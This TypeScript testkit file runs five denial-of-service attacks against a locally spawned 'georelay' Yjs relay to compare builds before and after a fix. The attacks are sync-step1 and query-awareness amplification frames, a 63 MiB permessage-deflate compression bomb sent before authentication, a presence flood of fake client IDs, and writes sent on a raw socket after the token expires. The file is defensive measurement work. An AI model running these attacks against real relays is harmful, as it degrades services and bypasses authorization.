/**
 * Denial-of-service measurements against a relay running as a separate child process, to
 * compare builds ("before" and "after" a fix). Each attack starts a fresh relay on 127.0.0.1
 * (port 0, memory store), runs one bounded attack, and kills it. Measured from this process:
 *
 *   stall  the longest single `GET /healthz` round trip while the attack runs, requests sent
 *          back-to-back (the next as soon as the previous answered; each may take 60 s);
 *   RSS    the relay's VmRSS before the attack, its peak (VmHWM, reset at the window's start
 *          where Linux allows, or the largest sample every 50 ms) and at the window's end.
 *
 * The attacks:
 *   1   sync-step1 amplification: one frame of N sync step 1 messages (empty state vector) on
 *       a document of ~340 KB with many structs; each asks the relay to diff the whole state.
 *   1b  the same with N query-awareness messages on a document with 200 presence states.
 *   2   compression bomb before authentication: permessage-deflate frames of 63 MiB of zeros
 *       (~64 KB on the wire) on /v1/peer with a wrong mesh secret.
 *   3   presence flood: awareness updates of ~1 MB with ~9,500 made-up client ids each.
 *   4   writes after close: a token expires, the relay sends its 4401 close frame, and the
 *       client keeps sending updates on the raw socket; how many of those the relay stores.
 *
 * Run it with `node packages/testkit/bin/attacks.js [--relay-bin PATH] [--only 1,2,3,4] [--json]`.
 */
import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { type AwarenessEntry, type YMessage, decodeFrame, encodeAwarenessEntries, encodeFrame, readAwarenessUpdate } from '@georelay/core'
import { SignJWT } from 'jose'
import * as Y from 'yjs'
import { CountingClient } from './attacks/counting-client.js'
import { MeasureWindow, type SpawnedRelay, type WindowFigures, sleep, spawnRelay, until } from './attacks/measure.js'
import { rawWebSocket } from './raw-websocket.js'
import { GEORELAY_BIN } from './relay-process.js'

export const ATTACK_IDS = ['1', '1b', '2', '3', '4'] as const
export type AttackId = (typeof ATTACK_IDS)[number]

export interface SyncStep1Options {
  /** Target size of the document's encoded state (bytes). */
  docBytes: number
  /** At most this many random-word inserts at random positions (the document stops growing at docBytes). */
  maxInserts: number
  /** Sync step 1 messages in the one attack frame. */
  messages: number
  /** How long to wait for the answers at most. */
  windowMs: number
  /**
   * Answers are over when none came for this long while the relay answered /healthz (a relay may
   * answer a frame's repeated questions once).
   */
  quietMs: number
  seed: number
}

export interface QueryAwarenessOptions {
  /** Presence states set on the document (one awareness update from one socket). */
  states: number
  /** Query-awareness messages in the one attack frame. */
  messages: number
  windowMs: number
  quietMs: number
}

export interface BombOptions {
  sockets: number
  framesPerSocket: number
  frameMiB: number
  /** How long to wait for every socket to close before the end value is read. */
  waitMs: number
}

export interface PresenceOptions {
  frames: number
  /** Each frame stays below this many bytes (the old relay's limit is 1 MiB per message). */
  maxFrameBytes: number
  /** Size of each made-up state's JSON. */
  stateBytes: number
  /** How long to wait for the relay to get through the frames. */
  windowMs: number
  /** 0: no wait; else read RSS again this long after the flood (y-protocols drops presence after 30 s). */
  waitAfterMs: number
}

export interface ExpiryOptions {
  /** The token's `exp` is this many seconds after the connection. */
  ttlSeconds: number
  intervalMs: number
  /** For how long updates are sent. */
  durationMs: number
}

export interface AttackOptions {
  /** The relay CLI to start (`georelay.js` of some build). */
  relayBin: string
  only: readonly AttackId[]
  /** Hard limit per attack, relay start to kill. */
  timeLimitMs: number
  /** Timeout of each /healthz request. */
  healthTimeoutMs: number
  /** Progress lines (stderr in the CLI); undefined: quiet. */
  log: ((line: string) => void) | undefined
  syncStep1: SyncStep1Options
  queryAwareness: QueryAwarenessOptions
  bomb: BombOptions
  presence: PresenceOptions
  expiry: ExpiryOptions
}

export const defaultAttackOptions = (): AttackOptions => ({
  relayBin: GEORELAY_BIN,
  only: ATTACK_IDS,
  timeLimitMs: 60_000,
  healthTimeoutMs: 60_000,
  log: undefined,
  syncStep1: { docBytes: 340_000, maxInserts: 20_000, messages: 300, windowMs: 30_000, quietMs: 2000, seed: 1 },
  queryAwareness: { states: 200, messages: 300, windowMs: 30_000, quietMs: 2000 },
  bomb: { sockets: 8, framesPerSocket: 16, frameMiB: 63, waitMs: 35_000 },
  presence: { frames: 6, maxFrameBytes: 1_000_000, stateBytes: 100, windowMs: 30_000, waitAfterMs: 0 },
  expiry: { ttlSeconds: 2, intervalMs: 100, durationMs: 6_000 },
})

export type Detail = string | number | boolean | null

export interface AttackResult {
  id: AttackId
  name: string
  relayBin: string
  /** Longest /healthz round trip during the attack (ms); null when the window never began. */
  stallMaxMs: number | null
  healthAnswered: number
  healthFailed: number
  /** Longest delay of this measuring process's own event loop during the window (ms). */
  selfLagMaxMs: number | null
  rssBaselineMb: number | null
  rssPeakMb: number | null
  rssEndMb: number | null
  /** Whether the peak counts from the window's start (VmHWM reset) rather than the relay's start. */
  peakFromWindowStart: boolean
  notes: string
  details: Record<string, Detail>
  error: string | null
  durationMs: number
}

interface AttackContext {
  readonly relay: SpawnedRelay
  readonly window: MeasureWindow
  readonly options: AttackOptions
  /** Runs at the end of the attack, whatever happened (close sockets, remove files). */
  onCleanup(fn: () => void): void
  client(docPath: string, wsOptions?: ConstructorParameters<typeof CountingClient>[1]): CountingClient
  log(line: string): void
}

interface AttackOutcome {
  notes: string[]
  details: Record<string, Detail>
}

interface AttackSpec {
  id: AttackId
  name: string
  args: string[]
  env: Record<string, string>
  /** Written before the relay starts (a config file); removed at the end. */
  prepare?: () => { args: string[], cleanup: () => void }
  run(ctx: AttackContext): Promise<AttackOutcome>
}

const round = (n: number | null, digits = 0): number | null =>
  n === null || !Number.isFinite(n) ? null : Number(n.toFixed(digits))
const kb = (bytes: number): string => `${Math.round(bytes / 1024)} KB`
/** KB below 1 MiB, MB above. */
const size = (bytes: number): string => bytes < 1024 * 1024 ? kb(bytes) : `${Math.round(bytes / 1024 / 1024)} MB`

/** A deterministic PRNG (mulberry32). */
const prng = (seed: number): () => number => {
  let s = seed | 0
  return () => {
    s = (s + 0x6D2B79F5) | 0
    let t = Math.imul(s ^ (s >>> 15), 1 | s)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

/**
 * A document of many structs: random words inserted at random positions until its encoded
 * state reaches `docBytes` (or `maxInserts` inserts were made).
 */
export const buildFragmentedDoc = (
  docBytes: number,
  maxInserts: number,
  seed: number,
): { update: Uint8Array, textLength: number, inserts: number } => {
  const random = prng(seed)
  const doc = new Y.Doc()
  const text = doc.getText('t')
  let inserts = 0
  let update = Y.encodeStateAsUpdate(doc)
  while (inserts < maxInserts && update.length < docBytes) {
    for (let i = 0; i < 250 && inserts < maxInserts; i++, inserts++) {
      const length = 2 + Math.floor(random() * 7)
      let word = ''
      for (let j = 0; j < length; j++) word += String.fromCharCode(97 + Math.floor(random() * 26))
      text.insert(Math.floor(random() * (text.length + 1)), word + ' ')
    }
    update = Y.encodeStateAsUpdate(doc)
  }
  const textLength = text.length
  doc.destroy()
  return { update, textLength, inserts }
}

const textOf = (update: Uint8Array): string => {
  const doc = new Y.Doc()
  Y.applyUpdate(doc, update)
  const text = doc.getText('t').toString()
  doc.destroy()
  return text
}

const closeNote = (client: CountingClient): string | null =>
  client.refusedStatus !== null
    ? `HTTP ${client.refusedStatus}`
    : client.close === null ? null : `closed ${client.close.code}${client.close.reason === '' ? '' : ` "${client.close.reason.slice(0, 60)}"`}`

/** No answer for `quietMs` (since the frame went out, or the last answer) while the relay is not stalled. */
const answersOver = (ctx: AttackContext, client: CountingClient, sentAt: number, quietMs: number): boolean =>
  Date.now() - Math.max(sentAt, client.lastMessageAt) >= quietMs && ctx.window.responsive()

/** Sync step 1 with the state vector of an empty document (no clients): "send me everything". */
const ASK_ALL: YMessage = { type: 'sync-step1', stateVector: new Uint8Array([0]) }

/** `count` copies of one message in one frame (a frame holds its messages back to back). */
const repeated = (message: YMessage, count: number): Uint8Array =>
  Buffer.concat(Array<Uint8Array>(count).fill(encodeFrame(message)))

/**
 * Opens the measuring window, sends the one attack frame of `o.messages` questions and waits
 * until they are answered (`answered` counts answers), the socket closed, or the answers are
 * over; answers and bytes count from `since`. The notes and details 1 and 1b share.
 */
const measureAnswers = async (
  ctx: AttackContext,
  client: CountingClient,
  frame: Uint8Array,
  o: { messages: number, windowMs: number, quietMs: number },
  answered: () => number,
  since = { answers: answered(), bytes: client.bytesIn },
): Promise<AttackOutcome> => {
  ctx.window.begin()
  const sentAt = Date.now()
  client.send(frame)
  const done = await until(
    () => answered() - since.answers >= o.messages || client.isClosed || answersOver(ctx, client, sentAt, o.quietMs),
    o.windowMs,
  )
  const answeredMs = Math.max(client.lastMessageAt, sentAt) - sentAt
  await sleep(300)
  await ctx.window.end()
  const answers = answered() - since.answers
  const bytes = client.bytesIn - since.bytes
  const close = closeNote(client)
  return {
    notes: [`${answers}/${o.messages} answers (${size(bytes)}) in ${answeredMs} ms${done ? '' : ' (window over)'}`, ...(close === null ? [] : [close])],
    details: {
      answers,
      bytesAnswered: bytes,
      answeredMs,
      closeCode: client.close?.code ?? null,
      closeReason: client.close?.reason ?? null,
    },
  }
}

// ---------------------------------------------------------------------------------------
// 1: sync-step1 amplification

const syncStep1Attack: AttackSpec = {
  id: '1',
  name: 'sync-step1 amplification',
  args: [],
  env: { GEORELAY_ANONYMOUS: 'rw' },
  async run (ctx) {
    const o = ctx.options.syncStep1
    const doc = buildFragmentedDoc(o.docBytes, o.maxInserts, o.seed)
    ctx.log(`document: ${doc.inserts} inserts, ${doc.textLength} characters, ${kb(doc.update.length)} encoded`)
    const writer = ctx.client('/attack/doc1')
    await writer.opened
    writer.send(encodeFrame({ type: 'sync-update', update: doc.update }))
    // A second socket asks for the whole document until its answer holds all of it.
    const reader = ctx.client('/attack/doc1')
    await reader.opened
    let stored = false
    for (let attempt = 0; attempt < 50 && !stored && !reader.isClosed; attempt++) {
      const before = reader.counts['sync-step2']
      reader.send(encodeFrame(ASK_ALL))
      await until(() => reader.counts['sync-step2'] > before || reader.isClosed, 5000)
      stored = reader.lastStep2 !== null && textOf(reader.lastStep2).length === doc.textLength
      if (!stored) await sleep(200)
    }
    if (!stored) throw new Error(`the document was not stored (reader: ${closeNote(reader) ?? 'no full answer'}; writer: ${closeNote(writer) ?? 'open'})`)
    const storedBytes = reader.lastStep2?.length ?? 0
    reader.terminate()
    const attacker = ctx.client('/attack/doc1')
    await attacker.opened
    await until(() => attacker.counts['sync-step1'] > 0 || attacker.isClosed, 5000) // the relay's own opening step 1
    await sleep(500)
    const frame = repeated(ASK_ALL, o.messages)
    const answered = await measureAnswers(ctx, attacker, frame, o, () => attacker.counts['sync-step2'])
    return {
      notes: [...answered.notes, `doc ${kb(storedBytes)}`],
      details: {
        messages: o.messages,
        frameBytes: frame.length,
        ...answered.details,
        docBytes: storedBytes,
        docInserts: doc.inserts,
        docTextLength: doc.textLength,
      },
    }
  },
}

// 1b: query-awareness amplification

const queryAwarenessAttack: AttackSpec = {
  id: '1b',
  name: 'query-awareness amplification',
  args: [],
  env: { GEORELAY_ANONYMOUS: 'rw' },
  async run (ctx) {
    const o = ctx.options.queryAwareness
    const entries: AwarenessEntry[] = []
    for (let i = 0; i < o.states; i++) {
      entries.push({ clientID: 100_000 + i, clock: 1, state: { user: { name: `user-${i}`, color: '#30bced' }, cursor: { anchor: i, head: i } } })
    }
    const holder = ctx.client('/attack/aw1')
    await holder.opened
    holder.send(encodeFrame({ type: 'awareness', update: encodeAwarenessEntries(entries) }))
    await sleep(300)
    const attacker = ctx.client('/attack/aw1')
    await attacker.opened
    // On open the relay sends its step 1 and every presence state it holds.
    await until(() => attacker.counts.awareness > 0 || attacker.isClosed, 3000)
    const initialStates = attacker.lastAwareness === null ? 0 : readAwarenessUpdate(attacker.lastAwareness).length
    const since = { answers: attacker.counts.awareness, bytes: attacker.bytesIn }
    await sleep(300)
    const frame = repeated({ type: 'query-awareness' }, o.messages)
    const answered = await measureAnswers(ctx, attacker, frame, o, () => attacker.counts.awareness, since)
    return {
      notes: [...answered.notes, `${initialStates} states`],
      details: { messages: o.messages, frameBytes: frame.length, states: initialStates, ...answered.details },
    }
  },
}

// ---------------------------------------------------------------------------------------
// 2: compression bomb on /v1/peer before authentication

const MESH_SECRET = crypto.randomBytes(24).toString('hex') // 48 characters, this run only

const bombAttack: AttackSpec = {
  id: '2',
  name: 'compression bomb before auth',
  args: ['--peer', 'b=ws://127.0.0.1:9', '--mesh-secret', MESH_SECRET],
  env: { GEORELAY_ANONYMOUS: 'rw' },
  async run (ctx) {
    const o = ctx.options.bomb
    const zeros = Buffer.alloc(o.frameMiB * 1024 * 1024) // built once, sent by reference
    const wrongSecret = 'w'.repeat(MESH_SECRET.length)
    const sockets: { client: CountingClient, deflate: boolean | null, sent: number, sendErrors: number }[] = []
    ctx.window.begin()
    for (let i = 0; i < o.sockets; i++) {
      const client = ctx.client('/v1/peer', {
        perMessageDeflate: true,
        headers: { authorization: `Bearer ${wrongSecret}`, 'x-georelay-region': 'b' },
      })
      const entry = { client, deflate: null as boolean | null, sent: 0, sendErrors: 0 }
      sockets.push(entry)
      // Sent from the 'open' event itself: the relay's close frame may already be on its way,
      // and `ws` refuses sends once it has read it.
      client.ws.once('open', () => {
        // Only a compressed frame is a bomb: uncompressed, 63 MiB frames would be a loopback flood.
        entry.deflate = /permessage-deflate/.test(client.ws.extensions)
        if (!entry.deflate) return client.ws.close(1000)
        for (let k = 0; k < o.framesPerSocket; k++) {
          client.ws.send(zeros, { binary: true, compress: true }, err => {
            if (err === undefined || err === null) entry.sent++
            else entry.sendErrors++
          })
        }
      })
    }
    const started = Date.now()
    const allDone = await until(() => sockets.every(s => s.client.isClosed || s.client.error !== null), o.waitMs, 50)
    const settledMs = Date.now() - started
    await sleep(1000)
    await ctx.window.end()
    const outcomes = new Map<string, number>()
    for (const s of sockets) {
      const what = closeNote(s.client) ?? (s.client.error !== null ? `error ${s.client.error}` : 'still open')
      outcomes.set(what.replace(/ ".*"$/, ''), (outcomes.get(what.replace(/ ".*"$/, '')) ?? 0) + 1)
    }
    const sent = sockets.reduce((sum, s) => sum + s.sent, 0)
    const negotiated = sockets.filter(s => s.deflate === true).length
    return {
      notes: [
        [...outcomes].map(([what, n]) => `${n}x ${what}`).join(', '),
        `${sent} bombs sent (${negotiated}/${o.sockets} deflate)`,
        allDone ? `all ended in ${settledMs} ms` : `not all ended in ${o.waitMs} ms`,
      ],
      details: {
        sockets: o.sockets,
        framesPerSocket: o.framesPerSocket,
        frameMiB: o.frameMiB,
        framesSent: sent,
        sendErrors: sockets.reduce((sum, s) => sum + s.sendErrors, 0),
        deflateNegotiated: negotiated,
        refused401: sockets.filter(s => s.client.refusedStatus === 401).length,
        closed4401: sockets.filter(s => s.client.close?.code === 4401).length,
        outcomes: [...outcomes].map(([what, n]) => `${n}x ${what}`).join(', '),
        settledMs,
      },
    }
  },
}

// ---------------------------------------------------------------------------------------
// 3: presence flood

const presenceAttack: AttackSpec = {
  id: '3',
  name: 'presence flood',
  args: [],
  env: { GEORELAY_ANONYMOUS: 'rw' },
  async run (ctx) {
    const o = ctx.options.presence
    const FIRST_ID = 1_000_000 // every id below 2^21 takes three varUint bytes
    const state = (id: number): unknown => {
      const base = { user: { name: `flood-${id}`, color: '#ff0000' }, cursor: { anchor: id, head: id }, pad: '' }
      return { ...base, pad: 'x'.repeat(Math.max(0, o.stateBytes - JSON.stringify(base).length)) }
    }
    const entrySize = encodeAwarenessEntries([{ clientID: FIRST_ID, clock: 1, state: state(FIRST_ID) }]).length - 1
    let perFrame = Math.floor((o.maxFrameBytes - 16) / entrySize)
    const frameFor = (f: number): Uint8Array => {
      const entries: AwarenessEntry[] = []
      for (let i = 0; i < perFrame; i++) {
        const id = FIRST_ID + f * perFrame + i
        entries.push({ clientID: id, clock: 1, state: state(id) })
      }
      return encodeFrame({ type: 'awareness', update: encodeAwarenessEntries(entries) })
    }
    while (frameFor(0).length >= o.maxFrameBytes) perFrame--
    const frames = Array.from({ length: o.frames }, (_, f) => frameFor(f))
    const flooder = ctx.client('/attack/presence')
    await flooder.opened
    await until(() => flooder.counts['sync-step1'] > 0 || flooder.isClosed, 5000)
    await sleep(500)
    ctx.window.begin()
    const sentAt = Date.now()
    for (const frame of frames) flooder.send(frame)
    // The relay answers messages of one socket in order: the answer to this step 1 comes after the flood.
    const step2Before = flooder.counts['sync-step2']
    flooder.send(encodeFrame(ASK_ALL))
    const done = await until(() => flooder.counts['sync-step2'] > step2Before || flooder.isClosed, o.windowMs)
    const handledMs = Date.now() - sentAt
    await sleep(500)
    const rightAfterMb = ctx.window.rssNow()
    let afterWaitMb: number | null = null
    if (o.waitAfterMs > 0 && !flooder.isClosed) {
      ctx.log(`waiting ${o.waitAfterMs} ms for the presence timeout`)
      await sleep(o.waitAfterMs)
      afterWaitMb = ctx.window.rssNow()
    }
    await ctx.window.end()
    const close = closeNote(flooder)
    return {
      notes: [
        `${o.frames} x ${kb(frames[0]?.length ?? 0)} (${perFrame} ids each)`,
        done && !flooder.isClosed ? `handled in ${handledMs} ms` : `not answered in ${handledMs} ms`,
        ...(close === null ? [] : [close]),
        `right after ${round(rightAfterMb, 1)} MB`,
        ...(afterWaitMb === null ? [] : [`after ${Math.round(o.waitAfterMs / 1000)} s ${round(afterWaitMb, 1)} MB`]),
      ],
      details: {
        frames: o.frames,
        frameBytes: frames[0]?.length ?? 0,
        idsPerFrame: perFrame,
        handledMs,
        answered: done && !flooder.isClosed,
        closeCode: flooder.close?.code ?? null,
        closeReason: flooder.close?.reason ?? null,
        rssRightAfterMb: round(rightAfterMb, 1),
        rssAfterWaitMb: round(afterWaitMb, 1),
        waitAfterMs: o.waitAfterMs,
      },
    }
  },
}

// ---------------------------------------------------------------------------------------
// 4: writes after the token expired and the relay sent its close frame

const JWT_SECRET = crypto.randomBytes(20).toString('hex') // 40 characters, this run only

const signHs256 = (claims: Record<string, unknown>): Promise<string> =>
  new SignJWT(claims).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).sign(new TextEncoder().encode(JWT_SECRET))

const expiryAttack: AttackSpec = {
  id: '4',
  name: 'writes after close',
  args: [],
  env: {},
  prepare () {
    const file = path.join(os.tmpdir(), `georelay-attack-${process.pid}-${crypto.randomBytes(4).toString('hex')}.json`)
    fs.writeFileSync(file, JSON.stringify({ region: 'a', store: 'memory', auth: { jwtSecret: JWT_SECRET, anonymous: 'none' } }))
    return { args: ['--config', file], cleanup: () => fs.rmSync(file, { force: true }) }
  },
  async run (ctx) {
    const o = ctx.options.expiry
    const docPath = '/attack/expiry'
    // Start on a whole second so that `exp` (whole seconds) is exactly ttlSeconds away.
    await sleep(1000 - (Date.now() % 1000) + 5)
    const exp = Math.floor(Date.now() / 1000) + o.ttlSeconds
    const token = await signHs256({ sub: 'attacker', exp, docs: { '**': 'rw' } })
    ctx.window.begin()
    const raw = await rawWebSocket(`${ctx.relay.url}${docPath}?token=${token}`)
    ctx.onCleanup(() => raw.destroy())
    const connectedAt = Date.now()
    const seen: { closeAt: number | null, closeCode: number | null, closeReason: string, tcpEndedAt: number | null } =
      { closeAt: null, closeCode: null, closeReason: '', tcpEndedAt: null }
    // Both settle in the same turn of the event loop as the bytes that settle them, before any write below.
    void raw.closeFrame.then(({ code, reason }) =>
      Object.assign(seen, { closeAt: Date.now(), closeCode: code, closeReason: reason }))
    void raw.ended.then(() => { seen.tcpEndedAt = Date.now() })
    // Each write is its own client's insert at position 0, so that no write depends on another:
    // any subset of them can be stored and read back.
    const writes: { sentAt: number, accepted: boolean }[] = []
    const count = Math.floor(o.durationMs / o.intervalMs)
    const start = Date.now()
    for (let i = 0; i < count; i++) {
      await sleep(start + i * o.intervalMs - Date.now())
      const doc = new Y.Doc()
      doc.getText('t').insert(0, `w${i} `)
      const update = Y.encodeStateAsUpdate(doc)
      doc.destroy()
      const accepted = raw.writable
      raw.send(encodeFrame({ type: 'sync-update', update }))
      writes.push({ sentAt: Date.now(), accepted })
    }
    await sleep(500)
    raw.destroy()
    const fresh = await signHs256({ sub: 'reader', exp: Math.floor(Date.now() / 1000) + 60, docs: { '**': 'rw' } })
    const reader = ctx.client(`${docPath}?token=${fresh}`)
    await reader.opened
    reader.send(encodeFrame(ASK_ALL))
    await until(() => reader.lastStep2 !== null || reader.isClosed, 5000)
    await ctx.window.end()
    if (reader.lastStep2 === null) throw new Error(`the reader got no sync step 2 (${closeNote(reader) ?? 'no answer'})`)
    const stored = new Set<number>()
    for (const match of textOf(reader.lastStep2).matchAll(/w(\d+) /g)) stored.add(Number(match[1]))
    const { closeAt, closeCode, closeReason, tcpEndedAt } = seen
    const authDenied = raw.frames.flatMap(frame => decodeFrame(frame)).filter(m => m.type === 'auth-denied').length
    const cut = closeAt ?? tcpEndedAt
    const after = cut === null ? [] : writes.map((w, i) => ({ ...w, i })).filter(w => w.sentAt > cut)
    const storedAfter = after.filter(w => stored.has(w.i)).length
    const sentAfter = after.filter(w => w.accepted).length
    return {
      notes: [
        `${storedAfter} writes stored after the close`,
        closeAt === null ? `no close frame${tcpEndedAt === null ? '' : `, TCP ended at +${tcpEndedAt - connectedAt} ms`}` : `close ${closeCode} at +${closeAt - connectedAt} ms`,
        `${sentAfter} sent after it, ${stored.size}/${writes.length} stored`,
        ...(authDenied > 0 ? [`${authDenied} auth-denied`] : []),
      ],
      details: {
        storedAfterClose: storedAfter,
        sentAfterClose: sentAfter,
        writesSent: writes.filter(w => w.accepted).length,
        writesAttempted: writes.length,
        writesStored: stored.size,
        closeCode,
        closeReason,
        closeAtMs: closeAt === null ? null : closeAt - connectedAt,
        tcpEndedAtMs: tcpEndedAt === null ? null : tcpEndedAt - connectedAt,
        authDenied,
      },
    }
  },
}

const SPECS: readonly AttackSpec[] = [syncStep1Attack, queryAwarenessAttack, bombAttack, presenceAttack, expiryAttack]

const BASE_ARGS = ['--port', '0', '--store', 'memory', '--region', 'a', '--host', '127.0.0.1', '--log-level', 'warn']

const runOne = async (spec: AttackSpec, options: AttackOptions): Promise<AttackResult> => {
  const started = Date.now()
  const log = (line: string): void => options.log?.(`[${spec.id} ${path.basename(shortRelayBin(options.relayBin))}] ${line}`)
  const cleanups: (() => void)[] = []
  let relay: SpawnedRelay | null = null
  let window: MeasureWindow | null = null
  let outcome: AttackOutcome | null = null
  let error: string | null = null
  let figures: WindowFigures | null = null
  let exitedEarly = false
  try {
    const prepared = spec.prepare?.()
    if (prepared !== undefined) cleanups.push(prepared.cleanup)
    relay = await spawnRelay({
      bin: options.relayBin,
      args: [...BASE_ARGS, ...spec.args, ...(prepared?.args ?? [])],
      env: spec.env,
    })
    log(`relay pid ${relay.pid} on ${relay.url}`)
    const activeRelay = relay
    const activeWindow = new MeasureWindow(relay, options.healthTimeoutMs)
    window = activeWindow
    const ctx: AttackContext = {
      relay: activeRelay,
      window: activeWindow,
      options,
      onCleanup: fn => { cleanups.push(fn) },
      client: (docPath, wsOptions) => {
        const client = new CountingClient(`${activeRelay.url}${docPath}`, wsOptions)
        cleanups.push(() => client.terminate())
        return client
      },
      log,
    }
    let timer: NodeJS.Timeout | undefined
    let timedOut = false
    const limit = new Promise<never>((_, reject) => {
      timer = setTimeout(() => {
        timedOut = true
        reject(new Error(`time limit of ${options.timeLimitMs} ms reached`))
      }, options.timeLimitMs - (Date.now() - started))
    })
    try {
      outcome = await Promise.race([spec.run(ctx), limit])
    } catch (err) {
      error = (err as Error).message
      // A stalled relay holds the /healthz request in flight: kill it so that the window can end.
      if (timedOut) await activeRelay.kill()
    } finally {
      clearTimeout(timer)
    }
    exitedEarly = !activeRelay.alive() && !timedOut
  } catch (err) {
    error = (err as Error).message
  } finally {
    if (window?.started === true) figures = await window.end()
    for (const fn of cleanups.reverse()) {
      try {
        fn()
      } catch {
        // cleanup is best effort
      }
    }
    await relay?.kill()
  }
  if (exitedEarly) error = `${error === null ? '' : `${error}; `}the relay exited during the attack; stderr tail: ${relay?.stderrTail().slice(-1500)}`
  const result: AttackResult = {
    id: spec.id,
    name: spec.name,
    relayBin: options.relayBin,
    stallMaxMs: figures === null ? null : round(figures.stall.maxMs),
    healthAnswered: figures?.stall.answered ?? 0,
    healthFailed: figures?.stall.failed ?? 0,
    selfLagMaxMs: figures === null ? null : round(figures.selfLagMaxMs),
    rssBaselineMb: round(figures?.baselineMb ?? null, 1),
    rssPeakMb: round(figures?.peakMb ?? null, 1),
    rssEndMb: round(figures?.endMb ?? null, 1),
    peakFromWindowStart: figures?.peakReset ?? false,
    notes: [
      ...(outcome?.notes ?? []),
      // This process's own event loop: a long delay here inflates the stall figure.
      ...(figures !== null && figures.selfLagMaxMs > 100 ? [`self lag ${Math.round(figures.selfLagMaxMs)} ms`] : []),
      ...(error === null ? [] : [`ERROR: ${error.split('\n')[0]}`]),
    ].join('; '),
    details: outcome?.details ?? {},
    error,
    durationMs: Date.now() - started,
  }
  log(`done in ${result.durationMs} ms: stall ${result.stallMaxMs} ms, RSS ${result.rssBaselineMb}/${result.rssPeakMb}/${result.rssEndMb} MB; ${result.notes}`)
  return result
}

/** Runs the chosen attacks one after the other, each against a fresh relay. */
export const runAttacks = async (overrides: Partial<AttackOptions> = {}): Promise<AttackResult[]> => {
  const options: AttackOptions = { ...defaultAttackOptions(), ...overrides }
  const results: AttackResult[] = []
  for (const spec of SPECS) {
    if (!options.only.includes(spec.id)) continue
    results.push(await runOne(spec, options))
  }
  return results
}

/** `--only 1,2` to attack ids: "1" means 1 and 1b. */
export const parseOnly = (text: string): AttackId[] => {
  const ids = new Set<AttackId>()
  for (const part of text.split(',').map(p => p.trim().toLowerCase()).filter(Boolean)) {
    if (part === '1') {
      ids.add('1')
      ids.add('1b')
    } else if (part === '1a') ids.add('1')
    else if ((ATTACK_IDS as readonly string[]).includes(part)) ids.add(part as AttackId)
    else throw new Error(`unknown attack "${part}" (use 1, 1a, 1b, 2, 3, 4)`)
  }
  return ATTACK_IDS.filter(id => ids.has(id))
}

/** The relay CLI path without its `packages/relay/bin/georelay.js` tail: the build it belongs to. */
export const shortRelayBin = (bin: string): string => {
  const tail = path.join('packages', 'relay', 'bin', 'georelay.js')
  return bin.endsWith(tail) ? bin.slice(0, -tail.length - 1) || '/' : bin
}

const fmt = (n: number | null): string => n === null ? '-' : String(n)

/** One line per attack: attack, relay, stall, RSS baseline/peak/end, notes. */
export const formatTable = (results: readonly AttackResult[]): string => {
  const header = ['attack', 'relay', 'stall max ms', 'RSS base/peak/end MB', 'notes']
  const rows = results.map(r => [
    `${r.id} ${r.name}`,
    shortRelayBin(r.relayBin),
    fmt(r.stallMaxMs),
    `${fmt(r.rssBaselineMb)} / ${fmt(r.rssPeakMb)} / ${fmt(r.rssEndMb)}`,
    r.notes,
  ])
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map(row => (row[i] ?? '').length)))
  const line = (cells: string[]): string => cells.map((c, i) => i === cells.length - 1 ? c : c.padEnd(widths[i] ?? 0)).join(' | ')
  return [line(header), widths.map((w, i) => '-'.repeat(i === widths.length - 1 ? Math.max(w, 5) : w)).join('-|-'), ...rows.map(line)].join('\n')
}
